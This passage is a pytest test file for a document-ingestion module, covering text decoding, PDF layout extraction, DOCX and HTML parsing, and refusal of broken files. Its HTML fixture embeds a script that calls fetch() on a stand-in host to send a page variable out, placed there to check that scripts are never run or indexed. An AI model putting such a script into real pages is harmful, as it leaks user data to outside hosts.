"""Ingestion: verbatim text, page offsets, titles, and a clear refusal for every unusable file."""

from __future__ import annotations

import hashlib
import inspect
import json
import os
import random
import re
import time
import zipfile
from pathlib import Path

import pytest
from reportlab.lib import pdfencrypt
from reportlab.pdfgen import canvas

from qa import ingest, pdftext
from qa.chunk import split_sentences
from qa.ingest import IngestError, call_in_child, iter_files, load_document

MB = 1024 * 1024
LIMIT = 50 * MB
SHARED_PDFS = Path(__file__).resolve().parents[2] / "shared/eval/pdfs"
REAL_PDF = SHARED_PDFS / "us-copyright-office_dmca-summary_1998.pdf"


def load(path: Path, **kwargs: object):
    options: dict = {"max_bytes": LIMIT, "parse_timeout_s": 30.0, **kwargs}
    return load_document(path, **options)


def refusal(path: Path, **kwargs: object) -> str:
    with pytest.raises(IngestError) as caught:
        load(path, **kwargs)
    error = caught.value
    assert error.path == path and error.source == path.name
    assert str(error) == f"{path.name}: {error.reason}"
    return error.reason


def make_pdf(path: Path, pages: list[list[str]], *, title: str | None = None, **kwargs) -> Path:
    """One list of lines per page; an empty list makes a blank page."""
    c = canvas.Canvas(str(path), **kwargs)
    if title is not None:
        c.setTitle(title)
    for lines in pages:
        for i, line in enumerate(lines):
            c.drawString(72, 720 - 16 * i, line)
        c.showPage()
    c.save()
    return path


def _slow_parser(path: Path) -> tuple[list[str], str | None]:
    time.sleep(30)
    return [], None


def _failing_parser(path: Path) -> tuple[list[str], str | None]:
    raise ValueError("xref table is garbage\nsecond line of detail")


# --- text files -------------------------------------------------------------------------------


def test_txt_decodes_utf8_strips_bom_and_normalises_line_endings(tmp_path: Path) -> None:
    path = tmp_path / "brief.txt"
    path.write_bytes("\ufeffSanctions update\r\nThe café  reopened.\rLast line\n".encode())
    doc = load(path, added_at="2024-05-01T10:00:00")
    assert doc.text == "Sanctions update\nThe café  reopened.\nLast line\n"
    assert doc.title == "Sanctions update"
    assert doc.source == "brief.txt"
    assert doc.path == str(path.resolve())
    assert doc.page_starts == () and doc.pages is None and doc.page_at(5) is None
    assert doc.added_at == "2024-05-01T10:00:00"


def test_md_is_kept_as_written_and_titled_by_first_heading(tmp_path: Path) -> None:
    source = "---\n\nIntro line before any heading.\n\n## Quarterly *briefing* ##\n\n- item\r\n"
    path = tmp_path / "notes.md"
    path.write_text(source, newline="")
    doc = load(path)
    assert doc.text == source.replace("\r\n", "\n")
    assert doc.title == "Quarterly *briefing*"


def test_md_without_heading_falls_back_to_first_line(tmp_path: Path) -> None:
    path = tmp_path / "plain.md"
    path.write_text("***\n\n  Plain notes without a heading  \nmore\n")
    assert load(path).title == "Plain notes without a heading"


def test_txt_title_is_first_line_with_words_cut_at_a_word_boundary(tmp_path: Path) -> None:
    words = " ".join(f"word{i}" for i in range(40))  # about 270 characters
    path = tmp_path / "long.txt"
    path.write_text(f"\n\n   \n-----\n  {words}\nsecond line\n")
    title = load(path).title
    assert title.endswith("…") and len(title) <= 121
    assert title[:-1].split() == words.split()[: len(title[:-1].split())]
    assert words.startswith(title[:-1])


def test_title_falls_back_to_file_stem_when_no_line_has_letters(tmp_path: Path) -> None:
    path = tmp_path / "figures-2024.txt"
    path.write_text("12 34\n56\n")
    assert load(path).title == "figures-2024"


def test_doc_id_depends_on_content_only(tmp_path: Path) -> None:
    (tmp_path / "a.txt").write_text("Same words.\n")
    (tmp_path / "b.md").write_text("Same words.\r\n")  # same text once line endings are normalised
    (tmp_path / "c.txt").write_text("Other words.\n")
    a, b, c = (load(tmp_path / name) for name in ("a.txt", "b.md", "c.txt"))
    assert a.doc_id == b.doc_id != c.doc_id
    assert a.doc_id == hashlib.sha256(b"Same words.\n").hexdigest()[:16]


def test_cp1252_and_latin1_files_decode_sensibly(tmp_path: Path) -> None:
    cp1252 = tmp_path / "windows.txt"
    cp1252.write_bytes("The “café” report – naïve résumé costs €5.\r\n".encode("cp1252"))
    assert load(cp1252).text == "The “café” report – naïve résumé costs €5.\n"
    latin1 = tmp_path / "latin1.txt"
    latin1.write_bytes("La préfecture a publié l'arrêté.\nÀ bientôt, naïveté.\n".encode("latin-1"))
    text = load(latin1).text
    assert "préfecture" in text and "arrêté" in text and "naïveté" in text


def test_non_western_legacy_encoding_goes_to_charset_detection(tmp_path: Path) -> None:
    path = tmp_path / "russian.txt"
    sentence = "Министерство опубликовало доклад о безопасности, энергетике и торговле.\n"
    path.write_bytes((sentence * 3).encode("cp1251"))
    assert load(path).text == sentence * 3


def test_utf16_with_bom_is_text_not_binary(tmp_path: Path) -> None:
    path = tmp_path / "notepad.txt"
    path.write_bytes("Unicode notes\r\nSecond line\r\n".encode("utf-16"))  # BOM + NUL bytes
    assert load(path).text == "Unicode notes\nSecond line\n"


# --- PDFs -------------------------------------------------------------------------------------


def test_pdf_pages_have_exact_offsets(tmp_path: Path) -> None:
    path = make_pdf(
        tmp_path / "three.pdf",
        [["First page alpha"], ["Second page bravo", "more bravo text"], ["Third page charlie"]],
    )
    doc = load(path)
    starts = doc.page_starts
    assert len(starts) == 3 and doc.pages == 3 and starts[0] == 0
    assert doc.text[starts[1] :].startswith("Second page bravo")
    assert doc.text[starts[2] :].startswith("Third page charlie")
    assert doc.text[starts[1] - 2 : starts[1]] == "\n\n"
    assert doc.page_at(0) == 1
    assert doc.page_at(doc.text.index("more bravo")) == 2
    assert doc.page_at(doc.text.index("charlie")) == 3
    assert doc.title == "First page alpha"
    assert doc.page_starts and doc.doc_id == hashlib.sha256(doc.text.encode()).hexdigest()[:16]


def test_blank_pdf_page_keeps_physical_page_numbers(tmp_path: Path) -> None:
    path = make_pdf(tmp_path / "gap.pdf", [["Cover words"], [], ["Annex delta"]])
    doc = load(path)
    assert doc.pages == 3
    assert doc.page_at(doc.text.index("Annex delta")) == 3


def test_pdf_metadata_title_is_used(tmp_path: Path) -> None:
    path = make_pdf(tmp_path / "x.pdf", [["Body text here"]], title="Annual Threat Assessment")
    assert load(path).title == "Annual Threat Assessment"


@pytest.mark.parametrize(
    ("meta", "expected"),
    [
        ("Microsoft Word - Energy Outlook 2024", "Energy Outlook 2024"),
        ("Microsoft Word - brief_v3.doc", None),
        ("C:\\My Documents\\SUMMARY6.WPD", None),
        ("report-final.pdf", None),
        ("Untitled", None),
        ("   ", None),
        ("1234", None),
        ("  Threat\x00 assessment\n2024 ", "Threat assessment 2024"),
    ],
)
def test_junk_pdf_titles_are_ignored(meta: str, expected: str | None) -> None:
    assert ingest._clean_title(meta) == expected


def test_junk_metadata_title_falls_back_to_first_line(tmp_path: Path) -> None:
    junk = "Microsoft Word - y.doc"
    path = make_pdf(tmp_path / "y.pdf", [["Ministerial brief on ports"]], title=junk)
    assert load(path).title == "Ministerial brief on ports"


def test_pdf_with_empty_user_password_opens_like_in_any_viewer(tmp_path: Path) -> None:
    # Owner-password-only PDFs (print/copy restrictions) are common in government reports,
    # e.g. the DMCA summary in shared/eval/pdfs; they open without a password, so they load.
    encrypt = pdfencrypt.StandardEncryption("", ownerPassword="owner")
    path = make_pdf(tmp_path / "restricted.pdf", [["Restricted but readable"]], encrypt=encrypt)
    assert "Restricted but readable" in load(path).text


def test_real_pdf_from_eval_set_keeps_every_body_line_on_its_page() -> None:
    if not REAL_PDF.exists():
        pytest.skip(f"{REAL_PDF} not present (shared eval data not checked out)")
    rows = [json.loads(line) for line in REAL_PDF.with_suffix(".pages.jsonl").open()]
    doc = load(REAL_PDF)
    assert doc.pages == 18 == len(rows)
    assert doc.title == "The Digital Millennium Copyright Act of 1998"
    running = ("The Digital Millennium Copyright Act of 1998", "Copyright Office Summary December 1998 Page")
    for row in rows:
        page = " ".join(page_text(doc, row["page"]).split())
        assert not any(line in page for line in running), row["page"]
        for line in row["text"].splitlines():
            words = line.split()  # the first and last may be joined across a line break
            if len(words) > 4 and not line.startswith(running):
                assert " ".join(words[1:-1]) in page, (row["page"], line)


PRINTED_PDFS = sorted(SHARED_PDFS.glob("*.pdf")) if SHARED_PDFS.is_dir() else []


@pytest.mark.skipif(not PRINTED_PDFS, reason=f"{SHARED_PDFS} not present (shared eval data not checked out)")
@pytest.mark.parametrize("path", PRINTED_PDFS, ids=lambda p: p.stem[:24])
def test_no_sentence_of_a_real_pdf_is_cut_at_a_line_break(path: Path) -> None:
    """Every page of the DMCA and NPS PDFs: no sentence ends where the printed sentence runs on
    (before a lower-case continuation, or on a comma, a hyphen, "and", "of"...)."""
    doc = load(path)
    for number in range(1, doc.pages + 1):
        start, end = page_bounds(doc, number)
        sentences = [doc.text[s.start : s.end] for s in split_sentences(doc.text, start, end)]
        assert sentences, number
        for before, after in zip(sentences, sentences[1:]):
            assert not cut_mid_sentence(before, after), (number, before[-60:], after[:60])


def page_bounds(doc, number: int) -> tuple[int, int]:
    end = doc.page_starts[number] if number < doc.pages else len(doc.text)
    return doc.page_starts[number - 1], end


def page_text(doc, number: int) -> str:
    return doc.text[slice(*page_bounds(doc, number))]


_RUNS_ON = re.compile(r"(?:[,(\[–-]|(?<!;)\s(?:a|an|and|at|by|for|from|in|into|of|on|or|the|to|with))$", re.I)
_ENDS = re.compile(r"[.!?:;)\]\"”’]$")


def cut_mid_sentence(before: str, after: str) -> bool:
    """A sentence boundary the printed text does not have: the first part runs on, or the second
    continues in lower case after no punctuation. A list item's "...; and" ends where it should."""
    if re.search(r";\s+(?:and|or)$", before):
        return False
    return bool(_RUNS_ON.search(before)) or (not _ENDS.search(before) and after[:1].islower())


# --- PDF layout: reportlab pages with the problems of real ones -----------------------------


def draw_pdf(path: Path, pages: list[list[tuple[float, float, str, float]]], title: str | None = None) -> Path:
    """Each page a list of (x, y, text, font size) drawn in that order (the content stream order)."""
    c = canvas.Canvas(str(path))
    if title is not None:
        c.setTitle(title)
    for items in pages:
        for x, y, text, size in items:
            c.setFont("Helvetica", size)
            c.drawString(x, y, text)
        c.showPage()
    c.save()
    return path


def column(x: float, lines: list[str], top: float = 700, size: float = 10) -> list[tuple[float, float, str, float]]:
    return [(x, top - 13 * i, line, size) for i, line in enumerate(lines)]


HEADER = "Federal Register / Vol. 85, No. 151 / Thursday, August 6, 2020 / Proposed Rules {page}"
FOOTER = "VerDate Sep<11>2014 16:21 Aug 05, 2020 Jkt 250001 PO 00000 Frm 000{page} Fmt 4702"
BODY = [
    "The port authority reviewed the breakwater after the winter storms and found",
    "that the northern section had moved by almost a metre since the last survey,",
    "which the engineers had not expected so early in the life of the structure.",
    "Repairs will start in the spring and are planned to last about four months.",
]


PAGE_BODIES = [
    BODY,
    [
        "The ferry quay on the southern side needs new mooring posts before the",
        "summer season, when up to twelve ships a day call at the harbour.",
    ],
    [
        "Costs are shared between the port authority and the regional council,",
        "which agreed in March to pay for half of the repairs.",
    ],
]


def test_running_headers_footers_and_page_numbers_are_kept_out_of_the_text(tmp_path: Path) -> None:
    pages = [
        [(72, 780, HEADER.format(page=40 + n), 8), *column(72, body), (72, 50, FOOTER.format(page=n), 7), (300, 30, str(n), 9)]
        for n, body in enumerate(PAGE_BODIES, 1)
    ]
    doc = load(draw_pdf(tmp_path / "register.pdf", pages))
    for furniture in ("Federal Register", "VerDate", "Jkt 250001", "Proposed Rules"):
        assert furniture not in doc.text
    for n, body in enumerate(PAGE_BODIES, 1):
        assert page_text(doc, n).rstrip("\n") == " ".join(body)  # the pages but the last end in a blank line


def test_lines_are_joined_into_paragraphs_and_line_end_hyphens_resolved(tmp_path: Path) -> None:
    lines = [
        "SUMMARY: The FAA proposes to supersede Airworthiness Directive (AD)",
        "2018-23-51, which applies to all Model 737 airplanes. The air-",
        "worthiness limitations are well known; a well-known limit, the",
        "so-called fatigue limit, is reached when the wing shows the well-",
        "known cracks. The Manager, Seattle ACO Branch, FAA, has the",
        "authority to approve AMOCs for this AD.",
        "An airworthiness directive is a legally enforceable rule.",
    ]
    doc = load(draw_pdf(tmp_path / "faa.pdf", [column(72, lines)]))
    assert doc.text == (
        "SUMMARY: The FAA proposes to supersede Airworthiness Directive (AD) 2018-23-51, which applies to all "
        "Model 737 airplanes. The airworthiness limitations are well known; a well-known limit, the so-called "
        "fatigue limit, is reached when the wing shows the well-known cracks. The Manager, Seattle ACO Branch, "
        "FAA, has the authority to approve AMOCs for this AD.\n\n"
        "An airworthiness directive is a legally enforceable rule."
    )
    sentences = [doc.text[s.start : s.end] for s in split_sentences(doc.text)]
    assert sentences[0].endswith("(AD) 2018-23-51, which applies to all Model 737 airplanes.")
    assert any(s.startswith("The Manager, Seattle ACO Branch, FAA, has the authority") for s in sentences)


def test_a_hyphen_the_document_never_spells_either_way_is_judged_by_its_halves(tmp_path: Path) -> None:
    lines = [
        "The school board met the legislators of the county to discuss the school-",
        "related incidents of the past year, which the legisla-",
        "ture had asked about. All incidents related to the school were listed.",
    ]
    doc = load(draw_pdf(tmp_path / "board.pdf", [column(72, lines)]))
    assert "the school-related incidents" in doc.text  # "school" and "related" are words of it
    assert "which the legislature had asked" in doc.text  # "legisla" and "ture" are not


def test_two_columns_are_read_column_by_column_as_paragraphs(tmp_path: Path) -> None:
    left = ["The harbour of Orvik reopened", "on Monday after six weeks of", "repairs to the breakwater,", "the port said."]
    right = ["Ferries to Lund resume on", "Tuesday with the summer", "timetable and three ships."]
    doc = load(draw_pdf(tmp_path / "columns.pdf", [column(72, left) + column(320, right)]))
    assert doc.text == (
        "The harbour of Orvik reopened on Monday after six weeks of repairs to the breakwater, the port said."
        "\n\nFerries to Lund resume on Tuesday with the summer timetable and three ships."
    )


def test_footnote_is_kept_apart_from_the_body_it_interrupts(tmp_path: Path) -> None:
    body = [
        "The council approved the harbour fund2 in March, after a long debate",
        "about its size, and the first payments to the fishing cooperatives will",
        "be made once the regional auditors have checked the accounts of the",
    ]
    note = "2 The harbour fund was created by the Port Act of 1998 and is renewed every five years."
    doc = load(draw_pdf(tmp_path / "note.pdf", [column(72, body) + [(72, 80, note, 7)]]))
    paragraphs = doc.text.split("\n\n")
    assert paragraphs == [" ".join(body), note]


def draw_runs(path: Path, runs: list[tuple[float, float, str, float]]) -> Path:
    """One page of (x, y, text, font size) runs in one text object, each placed with a text
    matrix and no line break, as real PDFs place superscripts (drawString ends each with one)."""
    c = canvas.Canvas(str(path))
    text = c.beginText()
    for x, y, run, size in runs:
        text.setTextOrigin(x, y)
        text.setFont("Helvetica", size)
        text.textOut(run)
    c.drawText(text)
    c.showPage()
    c.save()
    return path


def superscripted(x: float, y: float, parts: list[str], size: float = 10) -> list[tuple[float, float, str, float]]:
    """One printed line from `parts`, every other part a superscript: 0.6 times the size, raised
    0.35 of it, placed where the text before it ends (as the GAO and campus-attacks PDFs do)."""
    from reportlab.pdfbase.pdfmetrics import stringWidth

    runs = []
    for i, part in enumerate(parts):
        raised = i % 2 == 1
        part_size = 0.6 * size if raised else size
        runs.append((x, y + 0.35 * size if raised else y, part, part_size))
        x += stringWidth(part, "Helvetica", part_size)
    return runs


def test_superscript_footnote_calls_are_not_read_as_numbers_of_the_sentence(tmp_path: Path) -> None:
    # pypdf glued the calls to the text: "five pillars.3 The pillars", "through 2008.18 Data".
    body = [
        superscripted(72, 700, ["Crimes were reported from 2005 through 2008.", "18", " Data came from 4,314 schools"]),
        superscripted(72, 687, ["and the council fund", "2", " covered the costs of the new survey."]),
        superscripted(72, 674, ["The tank holds 40 m", "3", " of water. It was built in 2011."]),
        superscripted(72, 661, ["Incidents from January 1, 1900", "18", " on were counted, and 10", "6", " more."]),
    ]
    notes = [(72, 100, "2 The fund was created in 1998.", 7), (72, 90, "18 Reported to the Department of Education.", 7)]
    doc = load(draw_runs(tmp_path / "calls.pdf", [run for line in body for run in line] + notes))
    paragraphs = doc.text.split("\n\n")
    assert paragraphs[0] == (
        "Crimes were reported from 2005 through 2008. Data came from 4,314 schools and the council fund covered "
        "the costs of the new survey. The tank holds 40 m\u00b3 of water. It was built in 2011. "
        "Incidents from January 1, 1900 on were counted, and 10\u2076 more."
    )  # calls after a punctuation mark or with their note on the page go; an exponent stays
    assert paragraphs[1:] == ["2 The fund was created in 1998.", "18 Reported to the Department of Education."]
    sentences = [doc.text[s.start : s.end] for s in split_sentences(doc.text)]
    assert sentences[0] == "Crimes were reported from 2005 through 2008."


def test_a_footnote_rule_ends_the_body_and_numbered_lines_below_it_start_notes(tmp_path: Path) -> None:
    # The SCOTUS slip opinion: calls set apart by spaces, notes under a rule of dashes.
    body = BODY + PAGE_BODIES[1] + [
        "In 2007, the district sought a permit from the water board, 5 respondents here, to",
        "take 310,000 acre feet 6 per year of surface water from the",
    ]
    notes = [  # in the last 40% of the page's lines, where notes are looked for
        "\u2014" * 6,
        "5 Under the Compact each signatory State retains the right to regulate its water",
        "within its boundaries, see the Basin Compact, Art. V(A),",
        "71 Stat. 500, and the statutes of the States.",
        "6 An acre-foot is equivalent to 325,851 gallons of water.",
    ]
    doc = load(draw_pdf(tmp_path / "opinion.pdf", [column(72, body) + column(72, notes, top=200, size=8)]))
    paragraphs = doc.text.split("\n\n")
    assert paragraphs[-3].endswith("take 310,000 acre feet 6 per year of surface water from the")
    assert paragraphs[-2:] == [" ".join(notes[1:4]), notes[4]]  # "71 Stat." follows note 5 but is not note 6
    assert "\u2014" not in doc.text


def with_font_maps(path: Path, differences: list, to_unicode: bytes) -> Path:
    """The PDF at `path` with its Helvetica given an /Encoding /Differences array and a ToUnicode
    map, as the producer of a real PDF writes them (reportlab writes neither)."""
    from pypdf import PdfWriter
    from pypdf.generic import ArrayObject, DecodedStreamObject, DictionaryObject, NameObject, NumberObject

    writer = PdfWriter(clone_from=str(path))
    font = writer.pages[0]["/Resources"]["/Font"]["/F1"].get_object()
    items = [NumberObject(x) if isinstance(x, int) else NameObject(x) for x in differences]
    font[NameObject("/Encoding")] = DictionaryObject(
        {NameObject("/BaseEncoding"): NameObject("/WinAnsiEncoding"), NameObject("/Differences"): ArrayObject(items)}
    )
    cmap = DecodedStreamObject()
    cmap.set_data(to_unicode)
    font[NameObject("/ToUnicode")] = writer._add_object(cmap)
    writer.write(str(path))
    return path


# Codes 0x86, 0x87, 0x89 (WinAnsi's dagger, double dagger, per mille) redefined as ligature glyphs.
LIGATURE_DIFFERENCES = [0x86, "/fi", "/f_f", "/perthousand", "/T_h"]


def test_ligatures_a_font_map_cuts_to_one_letter_are_read_from_their_glyph_names(tmp_path: Path) -> None:
    # The CDC MMWR's fonts map /fi to "i", /ff to "f" and /T_h to "h": pypdf read "deined", "hey".
    line = "The term is de\u2020ned in the \u2020rst section. \u2030ey a\u2021ect the o\u2021er."
    broken = b"begincmap\n4 beginbfrange\n<20><7e><0020>\n<86><86><0069>\n<87><87><0066>\n<89><89><0068>\nendbfrange\nendcmap\n"
    doc = load(with_font_maps(draw_pdf(tmp_path / "mmwr.pdf", [column(72, [line])]), LIGATURE_DIFFERENCES, broken))
    assert doc.text == "The term is defined in the first section. They affect the offer."
    sentences = [doc.text[s.start : s.end] for s in split_sentences(doc.text)]
    assert sentences == ["The term is defined in the first section.", "They affect the offer."]


def test_ligature_characters_are_spelled_out_and_right_font_maps_stay_right(tmp_path: Path) -> None:
    line = "The term is de\u2020ned in the \u2020rst section. \u2030ey a\u2021ect the o\u2021er."
    # A map that gives the ligature characters (U+FB01, U+FB00) or the letters themselves.
    right = (
        b"begincmap\n2 beginbfrange\n<20><7e><0020>\n<86><87>[<FB01> <00660066>]\nendbfrange\n"
        b"1 beginbfchar\n<89> <00540068>\nendbfchar\nendcmap\n"
    )
    doc = load(with_font_maps(draw_pdf(tmp_path / "right.pdf", [column(72, [line])]), LIGATURE_DIFFERENCES, right))
    assert doc.text == "The term is defined in the first section. They affect the offer."


def test_pdf_title_is_the_first_heading_whole_not_furniture_nor_a_cut_line(tmp_path: Path) -> None:
    heading = ["Kroger Reports Second Quarter 2023 Results and", "Raises Full-Year Guidance"]
    pages = [
        [(72, 780, HEADER.format(page=n), 8), *column(72, (heading if n == 1 else []) + BODY, top=740)]
        for n in (1, 2)
    ]
    doc = load(draw_pdf(tmp_path / "kroger.pdf", pages))
    assert doc.title == "Kroger Reports Second Quarter 2023 Results and Raises Full-Year Guidance"
    no_heading = load(draw_pdf(tmp_path / "q2-results.pdf", [column(72, BODY)]))
    assert no_heading.title == "q2-results"
    with_metadata = load(draw_pdf(tmp_path / "x.pdf", [column(72, heading + BODY)], title="Kroger Q2 2023"))
    assert with_metadata.title == "Kroger Q2 2023"


def test_title_heading_passes_over_a_footnote_printed_first_and_stops_at_body_text() -> None:
    dmca_first_page = (
        "Pub. L. No. 105-304, 112 Stat. 2860 (Oct. 28, 1998).1\n\n"
        "THE DIGITAL MILLENNIUM COPYRIGHT ACT OF 1998\n\nU.S. Copyright Office Summary\n\nINTRODUCTION"
    )
    assert pdftext.heading_title(dmca_first_page) == "THE DIGITAL MILLENNIUM COPYRIGHT ACT OF 1998"
    excerpt = "ability to make fair use of copyrighted works, as the report explains.\n\nNo mandate\n\nSection 1201."
    assert pdftext.heading_title(excerpt) is None


# --- Word files and web pages -----------------------------------------------------------------

PORT_PAGE = """<!doctype html><html><head><meta charset="utf-8"><title>Port briefing | Ministry of Transport</title>
<script>document.title = "hacked"; var leak = "SCRIPTWORD"; fetch("https://example.invalid/?q=" + leak);</script>
<style>p { color: red } .STYLEWORD { }</style></head>
<body><nav><ul><li><a href="/">Home</a></li><li><a href="/news">NAVWORD news</a></li></ul></nav>
<div class="ad">ADWORD: buy cheap ferry tickets now</div>
<article><h1>Port briefing</h1>
<p>The harbour of Orvik reopened on Monday after six weeks of repairs to the northern breakwater.</p>
<h2>Costs</h2>
<p>The repairs cost 4 million euros,
   paid by the port authority.</p>
<script>document.write("INLINESCRIPTWORD")</script>
<ul><li>Dredging of the inner basin</li><li>New mooring posts</li></ul>
<h3>Next steps</h3>
<p>A second phase, on the southern quay, starts in spring and is expected to last four months.</p>
</article>
<footer>FOOTERWORD Subscribe to our newsletter</footer></body></html>
"""


def test_docx_headings_paragraphs_and_tables_become_paragraphs_with_sections(tmp_path: Path, make_docx) -> None:
    path = make_docx(
        tmp_path / "plan.docx",
        [
            (0, "Ferry plan 2024"),
            "Prepared by the harbour office.",
            (1, "Timetable"),
            "The first ferry leaves Orvik at 06:10\nand returns at 07:40.",
            [["Route", "Ships"], ["Orvik - Lund", "3"]],
            (2, "Fares"),
            "A return ticket costs 14 euros.",
        ],
    )
    doc = load(path)
    assert doc.text == (
        "# Ferry plan 2024\n\nPrepared by the harbour office.\n\n# Timetable\n\n"
        "The first ferry leaves Orvik at 06:10 and returns at 07:40.\n\n| Route | Ships |\n\n| --- | --- |\n\n"
        "| Orvik - Lund | 3 |\n\n## Fares\n\nA return ticket costs 14 euros.\n"
    )
    (table,) = doc.tables
    assert table.columns == ("Route", "Ships") and table.caption == "The first ferry leaves Orvik at 06:10 and returns at 07:40."
    assert [doc.text[a:b] for a, b in table.rows[0].cells] == ["Orvik - Lund", "3"]
    assert doc.page_starts == () and doc.page_at(10) is None
    assert [(s.heading, doc.text[s.start :].split("\n", 1)[0]) for s in doc.sections] == [
        ("Ferry plan 2024", "# Ferry plan 2024"),
        ("Timetable", "# Timetable"),
        ("Fares", "## Fares"),
    ]
    assert doc.section_at(doc.text.index("harbour office")) == "Ferry plan 2024"
    assert doc.section_at(doc.text.index("Orvik - Lund")) == "Timetable"
    assert doc.section_at(doc.text.index("14 euros")) == "Fares"
    assert doc.title == "Ferry plan 2024"  # no title in the core properties: the first heading


def test_docx_title_from_core_properties_unless_junk(tmp_path: Path, make_docx) -> None:
    blocks = [(1, "Scope"), "The survey covers the western coast."]
    assert load(make_docx(tmp_path / "a.docx", blocks, title="Coastal survey")).title == "Coastal survey"
    assert load(make_docx(tmp_path / "b.docx", blocks, title="Document1")).title == "Scope"


def test_text_before_the_first_heading_has_no_section(tmp_path: Path, make_docx) -> None:
    doc = load(make_docx(tmp_path / "memo.docx", ["Note for the minister.", (1, "Background"), "The port closed."]))
    assert doc.section_at(0) is None
    assert doc.section_at(doc.text.index("The port closed")) == "Background"


def test_html_keeps_the_main_content_as_paragraphs_with_sections(tmp_path: Path) -> None:
    path = tmp_path / "port.html"
    path.write_text(PORT_PAGE, encoding="utf-8")
    doc = load(path)
    assert doc.text == (
        "# Port briefing\n\n"
        "The harbour of Orvik reopened on Monday after six weeks of repairs to the northern breakwater.\n\n"
        "## Costs\n\nThe repairs cost 4 million euros, paid by the port authority.\n\n"
        "Dredging of the inner basin\n\nNew mooring posts\n\n"
        "### Next steps\n\n"
        "A second phase, on the southern quay, starts in spring and is expected to last four months.\n"
    )
    assert doc.title == "Port briefing"
    assert [s.heading for s in doc.sections] == ["Port briefing", "Costs", "Next steps"]
    assert doc.section_at(doc.text.index("mooring")) == "Costs"
    assert doc.page_starts == ()


def test_html_scripts_are_never_run_nor_indexed_and_page_furniture_is_dropped(tmp_path: Path) -> None:
    path = tmp_path / "port.htm"
    path.write_text(PORT_PAGE, encoding="utf-8")
    text = load(path).text
    for word in ("SCRIPTWORD", "INLINESCRIPTWORD", "STYLEWORD", "NAVWORD", "ADWORD", "FOOTERWORD", "hacked", "fetch("):
        assert word not in text


def test_html_in_a_legacy_encoding_is_decoded(tmp_path: Path) -> None:
    path = tmp_path / "legacy.html"
    body = "<html><body><article><p>The café on the quay reopened after the storm, said the préfet.</p></article></body></html>"
    path.write_bytes(body.encode("cp1252"))
    assert "café on the quay" in load(path).text and "préfet" in load(path).text


# --- refusals ---------------------------------------------------------------------------------


def test_missing_file_and_folder_are_refused(tmp_path: Path) -> None:
    assert refusal(tmp_path / "gone.pdf") == "no such file"
    folder = tmp_path / "folder.txt"
    folder.mkdir()
    assert refusal(folder) == "is a folder"


def test_unsupported_suffix_is_refused_and_suffix_check_ignores_case(tmp_path: Path) -> None:
    supported = ".txt, .md, .pdf, .docx, .html, .htm, .png, .jpg, .jpeg, .tif, .tiff"
    odt = tmp_path / "memo.odt"
    odt.write_bytes(b"PK\x03\x04 not really")
    assert refusal(odt) == f"unsupported file type '.odt' (supported: {supported})"
    bare = tmp_path / "README"
    bare.write_text("hello")
    assert refusal(bare) == f"unsupported file type (no extension) (supported: {supported})"
    upper = tmp_path / "LOUD.TXT"
    upper.write_text("Shouting title\n")
    assert load(upper).title == "Shouting title"


def test_oversize_file_is_refused_before_reading(tmp_path: Path) -> None:
    small = tmp_path / "small.txt"
    small.write_text("x" * 37)
    assert refusal(small, max_bytes=10) == "file is 37 bytes, above the 10 bytes limit"
    huge = tmp_path / "huge.pdf"
    with huge.open("wb") as f:  # sparse: nothing is written, and nothing may be read
        f.truncate(int(73.2 * MB))
    assert refusal(huge) == "file is 73.2 MB, above the 50 MB limit"


def test_empty_and_whitespace_files_are_refused(tmp_path: Path) -> None:
    empty = tmp_path / "empty.md"
    empty.touch()
    assert refusal(empty) == "empty file"
    blank = tmp_path / "blank.txt"
    blank.write_text(" \n\t\r\n  ")
    assert refusal(blank) == "no text"


def test_binary_content_in_txt_is_refused(tmp_path: Path) -> None:
    with_nul = tmp_path / "image.txt"
    with_nul.write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)))
    assert refusal(with_nul) == "binary file, not text"
    controls = tmp_path / "noise.md"
    controls.write_bytes(bytes(range(1, 32)) * 20 + b"some text")
    assert refusal(controls) == "binary file, not text"


def test_undecodable_text_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "odd.txt"
    rng = random.Random(7)
    path.write_bytes(bytes(rng.randrange(0x80, 0x100) for _ in range(3000)))  # no NULs, no text
    assert refusal(path) == "unknown text encoding"


def test_corrupt_pdf_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "fake.pdf"
    path.write_bytes(b"this is not a PDF at all, just text pretending\n" * 10)
    assert refusal(path) == "not a readable PDF (no %PDF header: not a PDF file)"
    path.write_bytes(b"%PDF-1.4\n" + b"garbage " * 100)
    assert refusal(path).startswith("not a readable PDF (")


def test_truncated_pdf_is_refused(tmp_path: Path) -> None:
    lines = [f"Line {i} of this page" for i in range(30)]
    full = make_pdf(tmp_path / "full.pdf", [lines, lines, lines])
    cut = tmp_path / "cut.pdf"
    data = full.read_bytes()
    cut.write_bytes(data[: len(data) // 2])
    reason = refusal(cut)
    assert reason.startswith("not a readable PDF (") and "\n" not in reason


def test_password_protected_pdf_is_refused(tmp_path: Path) -> None:
    path = make_pdf(tmp_path / "secret.pdf", [["Top secret words"]], encrypt="secret")
    assert refusal(path) == "encrypted PDF: remove the password and add it again"


def test_a_pdf_of_only_a_picture_is_read_by_ocr_and_refused_for_want_of_text(tmp_path: Path) -> None:
    from qa import ocr

    path = tmp_path / "scan.pdf"
    c = canvas.Canvas(str(path))
    c.rect(100, 100, 200, 300, fill=1)
    c.showPage()
    c.save()
    if ocr.available():
        assert refusal(path) == "no text found, by OCR either (blank pages or only pictures)"
    else:
        assert refusal(path) == f"scanned PDF without text: {ocr.INSTALL_HINT}"


def test_corrupt_and_truncated_docx_are_refused(tmp_path: Path, make_docx) -> None:
    garbage = tmp_path / "garbage.docx"
    garbage.write_bytes(b"PK\x03\x04" + bytes(range(256)) * 4)
    assert refusal(garbage).startswith("not a readable Word file (")
    full = make_docx(tmp_path / "full.docx", ["A paragraph of the memo."] * 50)
    cut = tmp_path / "cut.docx"
    cut.write_bytes(full.read_bytes()[: full.stat().st_size // 2])
    reason = refusal(cut)
    assert reason.startswith("not a readable Word file (") and "\n" not in reason
    not_word = tmp_path / "archive.docx"
    with zipfile.ZipFile(not_word, "w") as archive:
        archive.writestr("readme.txt", "a zip, but no Word document inside")
    assert refusal(not_word).startswith("not a readable Word file (")


def test_empty_and_huge_docx_and_html_are_refused(tmp_path: Path) -> None:
    for name in ("empty.docx", "empty.html", "empty.htm"):
        (tmp_path / name).touch()
        assert refusal(tmp_path / name) == "empty file"
    for name in ("huge.docx", "huge.html"):
        with (tmp_path / name).open("wb") as f:  # sparse: nothing may be read
